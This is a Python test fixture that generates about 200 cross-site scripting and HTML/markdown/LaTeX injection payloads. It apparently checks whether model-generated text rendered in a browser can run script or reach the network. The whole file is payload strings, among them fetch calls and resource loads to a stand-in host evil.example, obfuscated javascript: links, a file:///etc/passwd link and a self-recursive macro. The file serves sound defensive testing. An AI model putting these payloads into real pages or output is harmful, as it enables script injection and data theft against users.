"""What a model might say to make a browser do something. Each would leave a trace, in `window.hit` or on the network."""

EVIL = "https://evil.example"
CALL = "window.hit=1"
FETCH = f"fetch('{EVIL}/x')"

TAGS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src={evil}/x.js></script>",
    "<img src=x onerror={}>",
    "<img src={evil}/pixel.png>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg/onload={}//",
    "<body onload={}>",
    "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src={evil}></iframe>",
    "<object data={evil}/x.swf></object>",
    "<embed src={evil}/x>",
    "<link rel=stylesheet href={evil}/x.css>",
    "<link rel=prefetch href={evil}/x>",
    "<meta http-equiv=refresh content='0;url={evil}'>",
    "<base href={evil}/>",
    "<form action={evil}><button autofocus>x</button></form>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>x</details>",
    "<video src={evil}/x.mp4 autoplay></video>",
    "<audio src={evil}/x.mp3 autoplay onerror={}></audio>",
    "<math><mi xlink:href=javascript:{}>x</mi></math>",
    "<a href=javascript:{}>x</a>",
    "<style>@import '{evil}/x.css';</style>",
    "<style>*{{background:url({evil}/x)}}</style>",
    "<div style=background:url({evil}/x)>x</div>",
    "<marquee onstart={}>x</marquee>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<?xml <script>{}</script>?>",
    "<img src='{evil}/a' srcset='{evil}/b 2x'>",
    "<picture><source srcset={evil}/c><img></picture>",
    "<isindex onmouseover={}>",
    "<portal src={evil}>",
)
LINKS = (
    "[x](javascript:{})",
    "[x](JaVaScRiPt:{})",
    "[x](javascript&#58;{})",
    "[x](&#106;avascript:{})",
    "[x](java\tscript:{})",
    "[x](\x01javascript:{})",
    "[x](data:text/html,<script>{}</script>)",
    "[x](vbscript:{})",
    "<javascript:{}>",
    "[x](<javascript:{}>)",
    "![x](javascript:{})",
    "![x]({evil}/pixel.png)",
    "![x](data:image/svg+xml,<svg onload={}>)",
    "[![x]({evil}/a.png)](javascript:{})",
    "[x]: javascript:{}\n\n[x]",
    "![a]\n\n[a]: {evil}/b.png",
    "[x]({evil} \"' onmouseover={} '\")",
    "[x](blob:null/{})",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/{})",
)
CODE = (
    "```<script>{}</script>\n<img src=x onerror={}>\n```",
    "```html\n<script>{}</script>\n```",
    '```"><script>{}</script>\nx\n```',
    "`<script>{}</script>`",
    "    <script>{}</script>",
    "```mermaid\nclick A javascript:{}\n```",
    "```svg\n<svg onload={}>\n```",
    "~~~js onload={}\n{}\n~~~",
)
MATH = (
    "$\\href{{javascript:{}}}{{x}}$",
    "$\\url{{javascript:{}}}$",
    "$$\\includegraphics{{{evil}/x.png}}$$",
    "$\\htmlData{{a={}}}{{x}}$",
    "$\\htmlStyle{{background:url({evil}/x)}}{{x}}$",
    "$\\htmlClass{{x onload={}}}{{x}}$",
    "$\\htmlId{{x}}{{<script>{}</script>}}$",
    "$\\text{{<img src=x onerror={}>}}$",
    "$$\\def\\a{{\\a\\a}}\\a$$",
    "\\[ \\unicode{{x3c}}script>{} \\]",
)
TABLES = (
    "| <script>{}</script> | b |\n|---|---|\n| <img src=x onerror={}> | [x](javascript:{}) |",
    "- <svg onload={}>\n  - <script>{}</script>",
    "> <iframe src=javascript:{}>\n> text",
    "# <img src=x onerror={}>",
    "**<script>{}</script>** _<svg onload={}>_",
    "- [ ] <input onfocus={} autofocus>",
    "{{{{constructor.constructor('{}')()}}}}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "\u202e<script>{}</script>",
    '[x](https://a.example/"><script>{}</script>)',
    '<a href="{evil}" ping="{evil}/ping">x</a>',
)


def payloads():
    """200 different ones."""
    shapes = (*TAGS, *LINKS, *CODE, *MATH, *TABLES)
    made = [
        shape.replace("{evil}", EVIL)
        .replace("{{", "\0")
        .replace("}}", "\1")
        .replace("{}", code)
        .replace("\0", "{")
        .replace("\1", "}")
        for code in (CALL, FETCH, "alert(1)")
        for shape in shapes
    ]
    return list(dict.fromkeys(made))[:200]
